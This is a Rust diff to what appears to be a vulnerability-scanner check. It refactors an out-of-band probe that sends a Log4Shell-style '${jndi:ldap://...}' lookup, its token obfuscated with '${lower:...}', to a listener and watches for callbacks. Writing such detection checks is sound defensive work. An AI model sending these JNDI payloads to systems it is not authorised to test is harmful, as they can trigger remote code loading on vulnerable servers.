@@ -5,6 +5,7 @@ use crate::check::{Check, Family, Need, Oracle, Scope, Tier};
 use crate::context::Context;
 use crate::inputs::with_json;
 use crate::oracle::guarded::working_reads;
+use crate::oracle::out_of_band::nobody_came;
 use crate::step::{Request, Step};
 use crate::tape::{Flow, Tape};
 use avouch_model::identity::Who;
@@ -91,9 +92,7 @@ fn run(ctx: &Context<'_>, tape: &mut Tape<'_>) -> Flow {
         let stem = ctx.nonces.hex(&format!("stem {n}"), 12);
         let rest = ctx.nonces.word(&format!("rest {n}"), 12);
         let token = format!("{stem}{rest}");
-        if !tape.await_hit(&token, 0)?.is_empty() {
-            return Ok(Verdict::inconclusive("somebody came before the address was given away"));
-        }
+        nobody_came(tape, &token)?;
         let inner = format!("{stem}${{lower:{}}}", rest.to_ascii_uppercase());
         let text = format!("${{jndi:ldap://{}/{inner}}}", listener.authority());
         let tried = tape.send_any(with_lookup(request, &text))?;
